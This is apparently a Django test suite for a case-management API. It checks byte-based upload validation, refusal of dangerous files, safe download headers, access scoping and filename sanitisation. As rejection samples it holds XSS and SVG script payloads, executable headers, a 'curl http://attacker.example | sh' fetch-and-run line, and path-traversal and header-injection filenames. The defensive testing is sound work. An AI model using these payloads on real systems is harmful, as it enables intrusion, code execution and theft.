"""Uploads are judged by their bytes and leave only through a permission-checked download."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import Resolver404, get_resolver, resolve
from django.views.static import serve

from cases.models import Attachment, JournalEntry
from tests.conftest import client_for

PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"
TEXT = "Timelister for uke 12: Ærlig talt, 62 timer.\n".encode()
CSV = b"navn;timer\nAna;62\nIon;58\n"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def zipped(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.fixture
def case_id(api_case):
    return api_case.json()["id"]


def post_entry(client, case_id, *files, visibility="agency", **headers):
    data = {"body": "Documents from the site visit", "attachments": list(files)}
    if visibility == "unit":
        data.update(visibility="unit", legal_basis="akrim_regulation_3", necessity_note="Needed by Tax for the audit")
    return client.post(f"/api/v1/cases/{case_id}/journal/", data, format="multipart", **headers)


ACCEPTED = [
    ("timesheet.pdf", PDF, "application/pdf", "application/pdf"),
    ("photo.png", PNG, "image/png", "image/png"),
    ("photo.jpg", JPEG, "image/jpeg", "image/jpeg"),
    ("notes.txt", TEXT, "text/plain", "text/plain"),
    ("hours.csv", CSV, "text/csv", "text/csv"),
    ("report.docx", zipped("[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml",
                           "customXml/item1.xml", "word/document.xml"), DOCX, DOCX),
    ("wages.xlsx", zipped("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"), XLSX, XLSX),
    # What the client says does not matter: the bytes decide, and that is what is stored.
    ("scan.pdf", PNG, "application/pdf", "image/png"),
    ("notes", TEXT, "application/octet-stream", "text/plain"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "claimed", "stored"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_files_are_stored_with_the_type_their_bytes_show(labour_api, case_id, name, content, claimed, stored):
    response = post_entry(labour_api, case_id, upload(name, content, claimed))
    assert response.status_code == 201, response.content
    (attachment,) = response.json()["attachments"]
    assert attachment["content_type"] == stored
    assert Attachment.objects.get(pk=attachment["id"]).content_type == stored


REFUSED = [
    ("page.txt", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>", "text/plain"),
    ("notes.txt", b"Quarterly notes\n\n<script>fetch('/api/v1/cases/')</script>", "text/plain"),
    ("page.csv", b"  \n<html><body onload=alert(1)>", "text/csv"),
    ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "image/png"),
    ("logo.png", b"<svg onload=alert(1)>", "image/png"),
    ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"PE\x00\x00",
     "application/pdf"),
    ("invoice.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, "application/pdf"),
    ("run.txt", b"#!/bin/sh\ncurl http://attacker.example | sh\n", "text/plain"),
    ("report.docx", zipped("payload.exe", "readme.txt"), DOCX),
    ("photo.png", bytes(range(256)) * 4, "image/png"),
    ("photo.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04", "image/png"),
    ("latin1.txt", "Ærlig arbeid".encode("latin-1"), "text/plain"),
    ("utf16.txt", "Timer".encode("utf-16"), "text/plain"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "claimed"), REFUSED, ids=[f"{i}-{r[0]}" for i, r in enumerate(REFUSED)])
def test_html_svg_executables_and_unknown_bytes_are_refused_however_labelled(
    labour_api, case_id, name, content, claimed
):
    entries = JournalEntry.objects.count()
    response = post_entry(
        labour_api, case_id, upload("fine.pdf", PDF, "application/pdf"), upload(name, content, claimed)
    )
    assert response.status_code == 400, response.content
    assert response["Content-Type"] == "application/problem+json"
    problem = response.json()
    assert problem["errors"][0]["pointer"] == "/attachments" and "accepted are" in problem["detail"]
    # Nothing half-written: neither the entry nor the good file.
    assert JournalEntry.objects.count() == entries and not Attachment.objects.exists()


def test_a_3_mb_upload_with_an_idempotency_key_is_created_once_and_replayed(labour_api, case_id):
    big = PDF + b"%" + b"x" * (3 * 1024 * 1024)
    key = {"HTTP_IDEMPOTENCY_KEY": "upload-3mb"}
    first = post_entry(labour_api, case_id, upload("scan.pdf", big, "application/pdf"), **key)
    assert first.status_code == 201, first.content
    again = post_entry(labour_api, case_id, upload("scan.pdf", big, "application/pdf"), **key)
    assert again.status_code == 201 and again["Idempotent-Replayed"] == "true"
    assert again.json()["id"] == first.json()["id"] and Attachment.objects.count() == 1
    other = post_entry(labour_api, case_id, upload("scan.pdf", big + b"!", "application/pdf"), **key)
    assert other.status_code == 422 and other["Content-Type"] == "application/problem+json"


def test_too_many_files_is_a_400_problem(labour_api, case_id):
    files = [upload(f"n{i}.txt", TEXT, "text/plain") for i in range(11)]
    response = post_entry(labour_api, case_id, *files)
    assert response.status_code == 400 and response["Content-Type"] == "application/problem+json"
    assert "Too many files: send at most 10" in response.json()["detail"]
    assert not JournalEntry.objects.filter(body="Documents from the site visit").exists()


def test_a_file_over_the_size_limit_is_refused(labour_api, case_id, settings):
    settings.ATTACHMENT_MAX_BYTES = 1000
    response = post_entry(labour_api, case_id, upload("big.pdf", PDF + b"x" * 1000, "application/pdf"))
    assert response.status_code == 400 and "limit is 1000 bytes" in response.json()["detail"]


# --- serving --------------------------------------------------------------------------


def uploaded(client, case_id, name="Lønnsslipp mars.pdf", content=PDF, visibility="agency"):
    response = post_entry(client, case_id, upload(name, content, "application/pdf"), visibility=visibility)
    assert response.status_code == 201, response.content
    return response.json()["attachments"][0]


def test_an_attachment_is_served_as_a_download_that_no_browser_renders(labour_api, case_id):
    attachment = uploaded(labour_api, case_id)
    assert attachment["url"] == f"/api/v1/cases/{case_id}/attachments/{attachment['id']}/"
    response = labour_api.get(attachment["url"])
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''L%C3%B8nnsslipp%20mars.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["Cache-Control"] == "private, no-store"


def test_text_is_served_as_utf8_text_and_still_as_a_download(labour_api, case_id):
    response = post_entry(labour_api, case_id, upload("notes.txt", TEXT, "text/html"))
    attachment = response.json()["attachments"][0]
    download = labour_api.get(attachment["url"])
    assert download["Content-Type"] == "text/plain; charset=utf-8"
    assert download["Content-Disposition"] == 'attachment; filename="notes.txt"'


def test_attachments_out_of_scope_are_404(labour_api, case_id, make_key, bergen_api, nav_oslo_api):
    private = uploaded(labour_api, case_id)
    shared = uploaded(labour_api, case_id, visibility="unit")
    _, tax_token = make_key(agency="TAX", name="Tax system")
    tax_api = client_for(tax_token)
    # Tax takes part in the case: it reads what Labour shared with the unit, not Labour's own.
    assert tax_api.get(shared["url"]).status_code == 200
    for client, attachment in [(tax_api, private), (bergen_api, shared), (nav_oslo_api, shared)]:
        response = client.get(attachment["url"])
        assert response.status_code == 404 and response["Content-Type"] == "application/problem+json"
    # An id that is not an attachment of this case, or not an id at all.
    other = labour_api.post("/api/v1/cases/", {**_case(), "title": "Another"}, format="json").json()["id"]
    for url in (
        f"/api/v1/cases/{other}/attachments/{private['id']}/",
        f"/api/v1/cases/{case_id}/attachments/00000000-0000-0000-0000-000000000000/",
        f"/api/v1/cases/{case_id}/attachments/not-an-id/",
    ):
        assert labour_api.get(url).status_code == 404


def test_a_key_without_the_read_scope_cannot_download(labour_api, case_id, make_key):
    attachment = uploaded(labour_api, case_id)
    _, token = make_key(scopes=["webhooks:write"])
    assert client_for(token).get(attachment["url"]).status_code == 403


def _case():
    from tests.conftest import NEW_CASE

    return NEW_CASE


def test_no_url_serves_uploaded_files_directly(labour_api, case_id, settings, client):
    attachment = Attachment.objects.get(pk=uploaded(labour_api, case_id)["id"])
    stored = f"/{settings.MEDIA_URL.strip('/')}/{attachment.file.name}"
    with pytest.raises(Resolver404):
        resolve(stored)
    assert client.get(stored).status_code == 404

    def views(patterns):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                yield from views(pattern.url_patterns)
            else:
                yield pattern.callback

    assert serve not in set(views(get_resolver().url_patterns))


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ola\\rapport.pdf", "rapport.pdf"),
        ('a"b\r\nX-Injected: 1.txt', "abX-Injected: 1.txt"),
        ("\x00\u202eexe.pdf", "exe.pdf"),
        ("...", "attachment"),
        ("", "attachment"),
    ],
)
def test_file_names_lose_directories_control_characters_and_quotes(sent, kept):
    from cases.attachments import safe_filename

    assert safe_filename(sent) == kept


def test_the_admin_links_to_the_checked_download_not_to_media(labour_api, case_id, root, client):
    attachment = uploaded(labour_api, case_id)
    client.force_login(root)
    page = client.get(f"/admin/cases/attachment/{attachment['id']}/change/")
    assert page.status_code == 200
    assert attachment["url"] in page.content.decode() and "/media/" not in page.content.decode()
